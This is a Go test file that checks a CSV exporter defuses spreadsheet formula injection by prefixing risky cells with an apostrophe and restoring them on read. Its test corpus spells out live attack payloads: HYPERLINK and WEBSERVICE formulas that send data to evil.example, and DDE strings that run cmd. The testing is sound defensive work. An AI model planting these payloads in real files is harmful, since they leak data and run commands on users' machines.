package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// The OWASP CSV-injection corpus through the spreadsheet profile: string
// cells that a spreadsheet would evaluate get one leading apostrophe;
// nothing else is altered; reading undoes it exactly.
func TestFormulaInjection(t *testing.T) {
	corpus := []struct {
		in      string
		inert   bool   // the spreadsheet profile must prefix it
		comment string // why
	}{
		{`=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")`, true, "exfiltration link"},
		{`=WEBSERVICE("http://evil.example/"&A1)`, true, "exfiltration"},
		{`+cmd|' /C calc'!A0`, true, "DDE with plus"},
		{`-2+3`, true, "arithmetic with minus"},
		{`-cmd|' /C calc'!A0`, true, "DDE with minus"},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, true, "at-sign function"},
		{"\t=1+1", true, "leading tab"},
		{"\r=1+1", true, "leading CR (read back as LF)"},
		{"\n=1+1", true, "leading LF"},
		{"\x00=1+1", true, "leading NUL"},
		{"   =1+1", true, "formula after leading spaces"},
		{"'already has an apostrophe", true, "escaped so the reader's removal is exact"},
		{"-", true, "a lone minus is text here"},
		{"ok\n=1+1", false, "only the first character of a cell matters"},
		{"＝1+1", false, "fullwidth equals: not evaluated by spreadsheets, left alone"},
		{`DDE("cmd";"/C calc";"!A0")`, false, "no trigger character"},
		{"", false, "missing stays an empty cell"},
	}
	for _, tc := range corpus {
		t.Run(tc.comment, func(t *testing.T) {
			r := fixtures(t)[3]
			r.Narrative = tc.in
			r.Treatment.Products[0].Name = tc.in
			r.Events[0].Description = tc.in
			w := -2.5
			r.Patient.WeightKg = &w // not a valid weight, but numbers are never touched
			for _, p := range []Profile{ProfileMachine, ProfileSpreadsheet} {
				var buf bytes.Buffer
				fw := NewFlatWriter(&buf, CSVOptions{Profile: p})
				require.NoError(t, fw.Write(r))
				require.NoError(t, fw.Flush())
				cells := flatCells(t, buf.Bytes())
				want := normalisedText(tc.in)
				// A list column escapes ';' and '\' inside its items.
				wantList := strings.NewReplacer(`\`, `\\`, ";", `\;`).Replace(want)
				if p == ProfileSpreadsheet && tc.inert {
					want, wantList = "'"+want, "'"+wantList
				}
				require.Equal(t, want, cells["narrative"], p)
				require.Equal(t, want, cells["events.description"], p)
				require.Equal(t, wantList, cells["treatment.products.name"], p)
				// Numbers, dates and codes are never altered.
				require.Equal(t, "-2.5", cells["patient.weight_kg"])
				require.Equal(t, "2026-09-02T14:10", cells["treatment.date"])
				require.Equal(t, "vascular_occlusion", cells["events.term"])
				require.Equal(t, "0", cells["events.onset_days_min"])
				// And the reader gives the text back.
				got := readAllFlat(t, buf.Bytes(), CSVReadOptions{Profile: p})
				require.Len(t, got, 1)
				require.Equal(t, normalisedText(tc.in), got[0].Narrative)
				require.Equal(t, normalisedText(tc.in), got[0].Treatment.Products[0].Name)
			}
		})
	}
}

func normalisedText(s string) string {
	b := normaliseLineBreaks([]byte(s), 0)
	return string(b)
}

// flatCells parses a one-report, one-event flat file into header → cell.
func flatCells(t *testing.T, data []byte) map[string]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, utf8BOM))).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	out := map[string]string{}
	for i, h := range rows[0] {
		out[h] = rows[1][i]
	}
	return out
}

func TestFormulaInjectionSDTM(t *testing.T) {
	r := fixtures(t)[3]
	r.Patient.Pseudonym = "=cmd|' /C calc'!A0"
	var buf bytes.Buffer
	w := NewSDTMWriter(&buf, SDTMOptions{Profile: ProfileSpreadsheet, StudyID: "@STUDY"})
	require.NoError(t, w.Write(r))
	require.NoError(t, w.Flush())
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), utf8BOM))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, "'@STUDY", rows[1][0])
	require.Equal(t, "'=cmd|' /C calc'!A0", rows[1][2])
	require.Equal(t, "2026-09-02T14:20", rows[1][24])
}

func TestNeutraliseRules(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1", "'=1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@a", "'@a"}, {"\ta", "'\ta"}, {"\ra", "'\ra"},
		{"\na", "'\na"}, {"\x00a", "'\x00a"}, {"  =1", "'  =1"}, {"'a", "''a"}, {"'", "''"},
		{"a=1", "a=1"}, {" a", " a"}, {"   ", "   "}, {"", ""}, {"＝1", "＝1"}, {"1-2", "1-2"},
	} {
		got := string(neutralise([]byte(tc.in), 0))
		require.Equal(t, tc.want, got, "%q", tc.in)
		require.Equal(t, tc.in, unneutralise(got), "%q", tc.in)
	}
}
